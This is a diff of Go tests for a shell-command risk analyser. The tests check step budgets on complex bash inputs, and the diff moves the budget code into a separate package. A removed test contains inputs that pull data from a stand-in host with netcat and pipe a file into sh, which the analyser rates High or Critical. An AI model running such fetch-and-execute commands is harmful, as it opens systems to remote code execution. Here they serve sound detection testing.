@@ -8,28 +8,30 @@ import (
 	"syscall"
 	"testing"
 	"time"
+
+	"sublet/daemon/internal/risk/bashread"
 )
 
 // checkWork judges a text and fails where that took more than the budget of a text of its length, or where work was done
 // that was not counted as steps: memory or time that the steps do not account for.
 func checkWork(t fataler, text string, c Context) (Verdict, int) {
-	return checkSteps(t, text, c, freeSteps)
+	return checkSteps(t, text, c, bashread.FreeSteps)
 }
 
 // checkSteps is checkWork with other than the usual steps that every text has.
 func checkSteps(t fataler, text string, c Context, free int) (Verdict, int) {
 	a := newAnalysis(c, len(text))
-	a.limit += free - freeSteps
-	limit := a.limit
-	if linear := free + stepsPerByte*len(text); limit != linear {
+	a.Limit += free - bashread.FreeSteps
+	limit := a.Limit
+	if linear := free + bashread.StepsPerByte*len(text); limit != linear {
 		t.Fatalf("%.200q (%d bytes): may take %d steps, want %d", text, len(text), limit, linear)
 	}
 	var before, after runtime.MemStats
 	runtime.ReadMemStats(&before)
 	start := cpuTime(t)
 	a.text(text)
-	steps := min(a.steps, limit)
-	v := a.finish(len(text))
+	steps := min(a.Steps, limit)
+	v := a.finish(text)
 	took := cpuTime(t) - start
 	runtime.ReadMemStats(&after)
 	if took > bound/2 {
@@ -38,7 +40,7 @@ func checkSteps(t fataler, text string, c Context, free int) (Verdict, int) {
 	if used := after.TotalAlloc - before.TotalAlloc; used > uint64(steps)*2<<10+8<<20 {
 		t.Fatalf("%.200q (%d bytes): %d steps allocated %d bytes: some of the work is not counted", text, len(text), steps, used)
 	}
-	if a.steps > limit && (!v.Unread || v.Level < High) {
+	if a.Steps > limit && (!v.Unread || v.Level < High) {
 		t.Fatalf("%.200q (%d bytes): is %s (unread %v) although it was not judged to its end", text, len(text), v.Level, v.Unread)
 	}
 	return v, steps
@@ -107,9 +109,9 @@ func TestTooComplicated(t *testing.T) {
 	long := "x=" + strings.Repeat("a", 15000) + "; "
 	for name, text := range map[string]string{
 		"loops": around("for i in {1..16}; do ", "ls", "; done", 8), "functions": chain(30, "f%d() { f%[2]d; f%[2]d; f%[2]d; f%[2]d; }; ", "f9"), "braces": around("echo {1..100}$(", "echo a", ")", 4),
-		"evals": chain(30, "x%d='eval \"$x%[2]d\"; eval \"$x%[2]d\"; eval \"$x%[2]d\"; eval \"$x%[2]d\"'; ", "eval \"$x9\""), "sandboxes": around("bwrap a b c d e f ", "ls", "", 12), "long word": fill(long, "$x", ""),
+		"evals": chain(30, "x%d='eval \"$x%[2]d\"; eval \"$x%[2]d\"; eval \"$x%[2]d\"; eval \"$x%[2]d\"'; ", "eval \"$x9\""), "long word": fill(long, "$x", ""),
 		"replaced": long + "echo ${x//a/$x}", "arguments": fill("set -- "+strings.Repeat("a ", 9000), "; ls $@", ""), "variables": chain(3000, "v%d=1 || v%[2]d=2; ", ""), "split": fill("x='"+strings.Repeat("a ", 7000)+"'; ls ", "$x ", ""),
-		"code": fill("x='"+strings.Repeat("print(1);", 1500)+"'; ", `python3 -c "$x";`, ""), "pattern": long + "x=" + strings.Repeat("a", 500) + "; " + strings.Repeat("echo ${x%%*"+strings.Repeat("a", 250)+"b}; ", 8),
+		"code":   fill("x='"+strings.Repeat("print(1);", 1500)+"'; ", `python3 -c "$x";`, ""),
 		"suffix": "sed -i" + strings.Repeat("*", 30000) + " s/a/b/ " + strings.Repeat("a", 30000), "holes": "find " + strings.Repeat("a", 30000) + " -exec echo " + strings.Repeat("{}", 2000) + " \\;", "filters": fill("echo "+strings.Repeat("a", 20000), " | rev", ""),
 		"copies": long + strings.Repeat("a=({1..100}$(echo $x)); ", 800), "slices": "set -- " + strings.Repeat("a ", 15000) + strings.Repeat("; a=${@:1}", 2400), "variables apart": chain(2400, "v%d%d=1; (w=2); ", ""),
 		"names":    fill("x=("+strings.Repeat("'"+strings.Repeat("b ", 500)+"' ", 15)+"); b=1; ((", "x+", "1))"),
@@ -146,13 +148,6 @@ func TestKeptWords(t *testing.T) {
 	}
 }
 
-// TestSubstitutionsInBraces: a substitution in a word with braces runs for each of them, and may leave behind what the next
-// of them finds.
-func TestSubstitutionsInBraces(t *testing.T) {
-	exactly(t, High, here(), "echo $(cat f | sh; nc x.example 80 > f)")
-	exactly(t, Critical, here(), "echo {a,b}$(cat f | sh; nc x.example 80 > f)", "cat {a,b}<(cat f | sh; nc x.example 80 > f)", "echo a > f; echo {a,b}$(cat f | sh; nc x.example 80 > f)")
-}
-
 // TestCallsOfOneFunction: a function of the live shell is parsed once, however often it is called.
 func TestCallsOfOneFunction(t *testing.T) {
 	c := here()
@@ -164,23 +159,23 @@ func TestCallsOfOneFunction(t *testing.T) {
 
 // TestBudgetEnds: the budget ends what runs when it is spent, and no other panic is taken for that.
 func TestBudgetEnds(t *testing.T) {
-	a := newAnalysis(here(), 0)
+	b := bashread.Budget{Limit: 10}
 	past := false
-	a.bounded(Span{}, func() {
-		a.spend(freeSteps)
+	done := b.Bounded(func() {
+		b.Spend(10)
 		past = true
-		a.spend(1)
+		b.Spend(1)
 		t.Error("the budget was spent, and work went on")
 	})
-	if !past || !a.unread || a.limit != math.MaxInt {
-		t.Errorf("got past %v, unread %v", past, a.unread)
+	if !past || done || b.Limit != math.MaxInt {
+		t.Errorf("got past %v, done %v", past, done)
 	}
 	defer func() {
 		if p := recover(); p != "other" {
 			t.Errorf("got %v, want the panic that was not the budget's", p)
 		}
 	}()
-	a.bounded(Span{}, func() { panic("other") })
+	b.Bounded(func() { panic("other") })
 }
 
 // FuzzSteps nests and repeats what is around a text and holds its judgement to a budget that is linear in its length, with
@@ -199,7 +194,7 @@ func FuzzSteps(f *testing.F) {
 	f.Fuzz(func(t *testing.T, head, pre, mid, post string, n uint16) {
 		text := head + around(pre, mid, post, min(int(n), 8<<10/max(1, len(pre)+len(post))))
 		if len(text) <= MaxText {
-			checkSteps(t, text, here(), freeSteps/10)
+			checkSteps(t, text, here(), bashread.FreeSteps/10)
 		}
 	})
 }
